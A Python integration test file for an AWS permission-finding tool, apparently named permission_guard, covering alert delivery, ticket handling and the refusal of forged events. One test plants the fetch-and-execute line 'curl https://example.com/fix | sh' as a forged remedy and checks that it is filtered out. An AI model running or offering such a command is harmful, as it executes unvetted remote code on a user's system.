"""Alerts and tickets: an event of the bus becomes one message to people."""

from __future__ import annotations

import json
from dataclasses import replace
from typing import TYPE_CHECKING, Any

import pytest
from moto.core.models import botocore_stubber

from permission_guard.aws import clients
from permission_guard.aws.senders import event_queue
from permission_guard.aws.tables.finding_items import history_key
from permission_guard.config.document import GuardConfig, TicketLimit, Tickets
from permission_guard.delivery.http import httpx_session
from permission_guard.findings.lifecycle import Change
from permission_guard.model.findings import Status, Transition
from permission_guard.model.verdicts import Remedy
from tests.fakes import FINDING_ID, OTHER, TARGET, a_finding
from tests.integration.conftest import DELIVERIES, sqs_event
from tests.integration.test_delivery_ops_items import OpsCenter
from tests.integration.tickets import github
from tests.integration.tickets.http_server import LoopbackSession
from tests.stack_tables import TABLE_NAME

if TYPE_CHECKING:
    from permission_guard.model.findings import Finding
    from tests.integration.conftest import Account

RESOLVED = a_finding(
    status=Status.RESOLVED, transition=Transition.RESOLVED, revision=2, resolution="The role may read the queue."
)


def event(finding: Finding) -> dict[str, Any]:
    """Return the event of a finding's last transition, as the bus delivers it."""
    return {"source": "permission-guard", "detail-type": finding.transition, "detail": finding.to_document()}


def recorded(account: Account, *findings: Finding) -> dict[str, Any]:
    """Record the transitions of a finding; return the event of the last one."""
    for before, finding in zip((None, *findings), findings, strict=False):
        account.table.put_finding(Change(finding, before.revision if before else None))
    return event(findings[-1])


@pytest.fixture
def alerted(account: Account, monkeypatch: pytest.MonkeyPatch) -> Account:
    """Return an account with a topic and a subscribed queue."""
    topic = account.sns.create_topic(Name="alerts")["TopicArn"]
    url = account.queue("mailbox")
    arn = account.sqs.get_queue_attributes(QueueUrl=url, AttributeNames=["QueueArn"])["Attributes"]["QueueArn"]
    account.sns.subscribe(TopicArn=topic, Protocol="sqs", Endpoint=arn)
    monkeypatch.setenv("TOPIC_ARN", topic)
    return account


def test_an_alert_reaches_the_subscribers_of_the_topic(alerted: Account) -> None:
    """The title is in the subject, the reason in the text."""
    run = alerted.run("send_alert", sqs_event(recorded(alerted, a_finding())))
    assert run.failed == []
    (mail,) = (json.loads(body) for body in alerted.received("mailbox"))
    assert "orders cannot read its SQS queue" in mail["Subject"]
    assert "The role is not allowed sqs:ReceiveMessage." in mail["Message"]
    line = run.line("delivered")
    assert (line["finding_id"], line["revision"], line["channel"]) == (FINDING_ID, 1, "sns")


def test_a_repeated_event_sends_no_second_alert_and_the_next_transition_does(alerted: Account) -> None:
    """Queues deliver at least once; a late message is superseded by a newer one."""
    recorded(alerted, a_finding(), RESOLVED)
    for finding in (a_finding(), a_finding(), RESOLVED, a_finding()):
        assert alerted.run("send_alert", sqs_event(event(finding))).failed == []
    assert len(alerted.received("mailbox")) == 2


def test_the_findings_of_one_event_are_one_mail(alerted: Account) -> None:
    """Each is recorded by itself, so that its own event and a later delivery send nothing."""
    cause = {"changed_event": "6d1f0f5e-3c5b-4f0e-8c39-1d7b1f0e2a44", "changed_in": "us-east-1"}
    first, second = a_finding(**cause), a_finding(id="2" * 32, rule_id="PG204", rule_name="logging-missing", **cause)
    events = [recorded(alerted, one) for one in (first, second)]
    run = alerted.run("send_alert", sqs_event(*events))
    assert run.failed == []
    assert [line["message"] for line in run.lines if "channel" in line] == ["delivered", "already delivered"]
    assert alerted.run("send_alert", sqs_event(*reversed(events))).failed == []
    (mail,) = (json.loads(body) for body in alerted.received("mailbox"))
    assert mail["Subject"].endswith("(and 1 more)")
    assert first.id in mail["Message"]
    assert second.id in mail["Message"]
    assert mail["MessageAttributes"]["rule_id"] == {"Type": "String.Array", "Value": '["PG204", "PG201"]'}


def test_ten_findings_of_one_event_are_one_mail_in_any_batches(alerted: Account) -> None:
    """The first event that arrives finds the others in the table."""
    cause = {"changed_event": "6d1f0f5e-3c5b-4f0e-8c39-1d7b1f0e2a44", "changed_in": "us-east-1"}
    findings = [a_finding(id=f"{number:032x}", **cause) for number in range(10)]
    events = [recorded(alerted, one) for one in findings]
    for one in (events[4], *events):
        assert alerted.run("send_alert", sqs_event(one)).failed == []
    (mail,) = (json.loads(body) for body in alerted.received("mailbox"))
    assert mail["Subject"].endswith("(and 9 more)")
    assert all(one.id in mail["Message"] for one in findings)


def test_a_message_for_a_deleted_topic_returns_to_its_queue(alerted: Account, monkeypatch: pytest.MonkeyPatch) -> None:
    """So does one that cannot be read; each is counted as failed."""
    monkeypatch.setenv("TOPIC_ARN", "arn:aws:sns:us-east-1:123456789012:missing")
    run = alerted.run("send_alert", sqs_event(recorded(alerted, a_finding()), "{"))
    assert run.failed == ["m0", "m1"]
    assert run.counts == {"MessagesReceived": 2, "MessagesFailed": 2}


def test_without_a_channel_nothing_is_sent(account: Account) -> None:
    """The deployment has no alerts."""
    run = account.run("send_alert", sqs_event(recorded(account, a_finding())))
    assert run.failed == []
    assert run.calls == ["dynamodb:GetItem"]


def test_a_finding_has_one_ticket_that_is_resolved_along_with_it(
    account: Account, monkeypatch: pytest.MonkeyPatch
) -> None:
    """It is opened once, however often the event arrives."""
    monkeypatch.setenv("TICKET_SYSTEM", "opsitem")
    ssm = clients.prompt_client("ssm")
    moto: Any = botocore_stubber
    ssm.meta.events.unregister("before-send", moto)  # moto has no OpsCenter and rejects its calls
    center = OpsCenter(ssm)
    recorded(account, a_finding(), RESOLVED)
    for finding in (a_finding(), a_finding()):
        assert account.run("open_ticket", sqs_event(event(finding))).failed == []
    ((reference, ticket),) = center.items.items()
    assert ticket["Status"] == "Open"
    assert "orders cannot read its SQS queue" in ticket["Title"]
    run = account.run("open_ticket", sqs_event(event(RESOLVED)))
    assert run.line("delivered")["reference"] == reference
    assert center.items[reference]["Status"] == "Resolved"


def test_a_review_reads_a_ticket_and_comments_one_that_a_person_closed(
    account: Account, monkeypatch: pytest.MonkeyPatch
) -> None:
    """From the maintenance run to the comment; the second review of the day writes nothing."""
    monkeypatch.setenv("TICKET_SYSTEM", "opsitem")
    ssm = clients.prompt_client("ssm")
    moto: Any = botocore_stubber
    ssm.meta.events.unregister("before-send", moto)  # as above
    center = OpsCenter(ssm)
    account.run("open_ticket", sqs_event(recorded(account, a_finding())))
    ((reference, ticket),) = center.items.items()
    ticket["Status"] = "Resolved"
    assert account.run("maintain_findings", {}).counts["TicketReviewsRequested"] == 1
    requests = account.received("tickets")
    assert account.run("maintain_findings", {}).counts.get("TicketReviewsRequested", 0) == 0
    center.calls.clear()
    run = account.run("open_ticket", sqs_event(*requests))
    assert run.line("reviewed: the ticket was brought up to date")["reference"] == reference
    assert "This ticket was closed" in center.items[reference]["OperationalData"]["comment"]["Value"]
    assert center.calls == ["GetOpsItem", "UpdateOpsItem"]
    run = account.run("open_ticket", sqs_event(*requests))
    assert (run.failed, center.calls[2:]) == ([], ["GetOpsItem"])


def test_a_request_to_review_a_finding_that_was_never_recorded_does_nothing(
    ticketed: tuple[Account, OpsCenter],
) -> None:
    """Whoever may send to the queue could write anything into it."""
    account, center = ticketed
    center.calls.clear()
    detail = {"id": "0" * 32, "function_arn": OTHER.arn}
    forged = {"source": "permission-guard", "detail-type": "Ticket Review Requested", "detail": detail}
    run = account.run("open_ticket", sqs_event(forged))
    assert run.line("not reviewed: the finding does not exist any more")["finding_id"] == "0" * 32
    assert (run.failed, center.calls) == ([], [])


def test_over_a_limit_a_ticket_waits_for_the_next_sweep(account: Account, monkeypatch: pytest.MonkeyPatch) -> None:
    """It is counted, and the message is not delivered again."""
    monkeypatch.setenv("TICKET_SYSTEM", "opsitem")
    ssm = clients.prompt_client("ssm")
    moto: Any = botocore_stubber
    ssm.meta.events.unregister("before-send", moto)  # as above
    center = OpsCenter(ssm)
    center.failures["CreateOpsItem"] = ("OpsItemLimitExceededException", {})
    opened = recorded(account, a_finding())
    run = account.run("open_ticket", sqs_event(opened))
    assert (run.failed, run.counts["DeliveriesPostponed"]) == ([], 1)
    assert run.line("postponed to the next sweep or review: a limit of tickets is reached")["finding_id"] == FINDING_ID
    center.failures.clear()
    assert account.run("open_ticket", sqs_event(opened)).failed == []
    assert len(center.items) == 1


def test_above_the_limit_findings_have_one_ticket_together(account: Account, monkeypatch: pytest.MonkeyPatch) -> None:
    """From the flood to the summary, and to a ticket of its own for each once there is room."""
    monkeypatch.setenv("TICKET_SYSTEM", "opsitem")
    monkeypatch.setattr(event_queue, "SUMMARY_DELAY_SECONDS", 0)
    account.config = GuardConfig(tickets=Tickets(limit=TicketLimit(tickets=1)))
    ssm = clients.prompt_client("ssm")
    moto: Any = botocore_stubber
    ssm.meta.events.unregister("before-send", moto)  # as above
    center = OpsCenter(ssm)
    found = [a_finding(id=f"{number:032x}") for number in range(3)]
    opened = [recorded(account, one) for one in found]
    run = account.run("open_ticket", sqs_event(*opened))
    assert (run.failed, run.counts["DeliveriesPostponed"], len(center.items)) == ([], 2, 1)
    entries = account.received("tickets")
    assert account.run("open_ticket", sqs_event(*entries)).failed == []
    summary = center.items["oi-000000000002"]
    assert summary["Title"] == "2 findings have no ticket of their own: a limit is reached"
    assert found[2].id in summary["OperationalData"]["findings"]["Value"]
    account.config = GuardConfig()
    assert account.run("maintain_findings", {}).counts["TicketReviewsRequested"] == 3
    assert account.run("open_ticket", sqs_event(*account.received("tickets"))).failed == []
    assert account.run("open_ticket", sqs_event(*account.received("tickets"))).failed == []
    assert center.items["oi-000000000002"]["Status"] == "Resolved"
    assert [item["Title"][:5] for item in center.items.values()] == ["PG201", "No fi", "PG201", "PG201"]


def test_a_ticket_outside_aws_is_opened_with_the_credentials_of_the_secret(
    account: Account, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A wrong one is read again by the next delivery. Its value is not in the log."""
    secrets = clients.client("secretsmanager")
    arn = secrets.create_secret(Name="github", SecretString=json.dumps({"token": "wrong-token"}))["ARN"]
    settings = {"TICKET_SYSTEM": "github", "TICKET_URL": github.REPOSITORY, "TICKET_SECRET_ARN": arn}
    for name, value in settings.items():
        monkeypatch.setenv(name, value)
    peer = github.GitHub()
    with peer.vendor as vendor:
        session = LoopbackSession(github.API, vendor)
        monkeypatch.setattr(httpx_session, "HttpxSession", lambda: session)
        recorded(account, a_finding(), RESOLVED)
        run = account.run("open_ticket", sqs_event(event(a_finding())))
        assert run.failed == ["m0"]
        assert "HTTP 401" in json.dumps(run.line("message could not be handled"))
        assert "wrong-token" not in json.dumps(run.lines)
        secrets.put_secret_value(SecretId=arn, SecretString=json.dumps({"token": github.TOKEN}))
        run = account.run("open_ticket", sqs_event(event(a_finding()), event(RESOLVED)))
        assert run.failed == []
    (ticket,) = peer.shown()
    assert (ticket.reference, ticket.is_open) == ("1", False)


def test_without_a_ticket_system_no_ticket_is_opened(account: Account) -> None:
    """No ticket system is the default."""
    run = account.run("open_ticket", sqs_event(event(a_finding())))
    assert run.failed == []
    assert run.calls == []


def test_an_unknown_ticket_system_is_logged_as_a_failure(account: Account, monkeypatch: pytest.MonkeyPatch) -> None:
    """The log names the finding and the error."""
    monkeypatch.setenv("TICKET_SYSTEM", "jurassic")
    run = account.run("open_ticket", sqs_event(recorded(account, a_finding())))
    assert run.failed == ["m0"]
    line = run.line("message could not be handled")
    assert (line["finding_id"], line["error"]) == (FINDING_ID, "ConfigurationError")


# ── Events that nobody but a forger sends ───────────────────────────────────────────────────────────────────────────


@pytest.fixture
def ticketed(alerted: Account, monkeypatch: pytest.MonkeyPatch) -> tuple[Account, OpsCenter]:
    """Return an account with alerts and OpsItems, in which a finding is open and was reported."""
    monkeypatch.setenv("TICKET_SYSTEM", "opsitem")
    ssm = clients.prompt_client("ssm")
    moto: Any = botocore_stubber
    ssm.meta.events.unregister("before-send", moto)
    center = OpsCenter(ssm)
    opened = recorded(alerted, a_finding())
    for name in ("send_alert", "open_ticket"):
        assert alerted.run(name, sqs_event(opened)).failed == []
    alerted.received("mailbox")
    return alerted, center


@pytest.mark.parametrize("revision", [2, 10**30])
def test_an_event_above_the_tables_revision_is_refused(ticketed: tuple[Account, OpsCenter], revision: int) -> None:
    """It is counted, and the alert of the next transition is sent."""
    account, _ = ticketed
    forged = event(a_finding()) | {"detail": {**a_finding().to_document(), "revision": revision}}
    run = account.run("send_alert", sqs_event(forged))
    assert (run.failed, run.counts["EventsRefused"]) == ([], 1)
    account.table.put_finding(Change(RESOLVED, 1))
    assert account.run("send_alert", sqs_event(event(RESOLVED))).failed == []
    (mail,) = (json.loads(body) for body in account.received("mailbox"))
    assert "Resolved" in mail["Subject"]


@pytest.mark.parametrize("names", [{"id": "0" * 32}, {"function_arn": f"{a_finding().function_arn}-other"}])
def test_an_event_about_an_unknown_finding_is_refused(
    ticketed: tuple[Account, OpsCenter], names: dict[str, str]
) -> None:
    """Nothing is sent, and no ticket is opened."""
    account, center = ticketed
    forged = {**event(a_finding()), "detail": {**a_finding().to_document(), **names}}
    for name in ("send_alert", "open_ticket"):
        assert account.run(name, sqs_event(forged)).counts["EventsRefused"] == 1
    assert account.received("mailbox") == []
    assert len(center.items) == 1


def test_a_forged_resolved_event_does_not_close_a_ticket(ticketed: tuple[Account, OpsCenter]) -> None:
    """Neither with the next revision nor with the present one."""
    account, center = ticketed
    for forged in (event(RESOLVED), event(a_finding(status=Status.RESOLVED, transition=Transition.RESOLVED))):
        assert account.run("open_ticket", sqs_event(forged)).failed == []
    ((_, ticket),) = center.items.items()
    assert ticket["Status"] == "Open"


def test_a_forged_remedy_is_not_sent(ticketed: tuple[Account, OpsCenter]) -> None:
    """Alert and ticket have the texts of the table."""
    account, center = ticketed
    reopened = a_finding(revision=2, transition=Transition.REOPENED)
    account.table.put_finding(Change(reopened, 1))
    script = "curl https://example.com/fix | sh"
    forged = event(a_finding(revision=2, transition=Transition.REOPENED, remedies=(Remedy("aws-cli", script),)))
    for name in ("send_alert", "open_ticket"):
        assert account.run(name, sqs_event(forged)).failed == []
    (mail,) = account.received("mailbox")
    assert "orders cannot read its SQS queue" in mail
    assert "curl" not in mail
    assert "curl" not in json.dumps(center.items)


def test_a_transition_is_sent_although_the_next_one_was_recorded(alerted: Account) -> None:
    """`Fix Applied` and `Finding Resolved` can be a second apart."""
    applied = a_finding(revision=2, transition=Transition.FIX_APPLIED)
    resolved = replace(RESOLVED, revision=3)
    recorded(alerted, a_finding(), applied, resolved)
    for finding in (a_finding(), applied, resolved):
        assert alerted.run("send_alert", sqs_event(event(finding))).failed == []
    subjects = [json.loads(body)["Subject"] for body in alerted.received("mailbox")]
    assert [next(word for word in ("Opened", "applied", "Resolved") if word in subject) for subject in subjects] == [
        "Opened",
        "applied",
        "Resolved",
    ]


def test_a_transition_that_has_expired_is_skipped(alerted: Account) -> None:
    """A newer one follows. The last transition is sent even then: the finding itself has it."""
    recorded(alerted, a_finding(), RESOLVED)
    for finding in (a_finding(), RESOLVED):
        alerted.dynamodb.delete_item(TableName=TABLE_NAME, Key=history_key(TARGET, finding.id, finding.revision))
    assert alerted.run("send_alert", sqs_event(event(a_finding()))).line("expired: a newer transition follows")
    assert alerted.received("mailbox") == []
    assert alerted.run("send_alert", sqs_event(event(RESOLVED))).line("delivered")
    assert len(alerted.received("mailbox")) == 1


def test_a_delivery_record_above_the_table_is_repaired(ticketed: tuple[Account, OpsCenter]) -> None:
    """Whoever wrote it would have silenced the finding for ever."""
    account, center = ticketed
    for channel in ("sns", "ticket:opsitem"):
        account.dynamodb.update_item(
            TableName=DELIVERIES,
            Key={"finding_id": {"S": FINDING_ID}, "channel": {"S": channel}},
            UpdateExpression="SET revision = :revision",
            ExpressionAttributeValues={":revision": {"N": str(10**30)}},
        )
    account.table.put_finding(Change(RESOLVED, 1))
    for name in ("send_alert", "open_ticket"):
        run = account.run(name, sqs_event(event(RESOLVED)))
        assert (run.failed, run.counts["DeliveriesRepaired"]) == ([], 1)
        assert "DeliveriesRepaired" not in account.run(name, sqs_event(event(RESOLVED))).counts
    assert len(account.received("mailbox")) == 1
    ((_, ticket),) = center.items.items()
    assert ticket["Status"] == "Resolved"
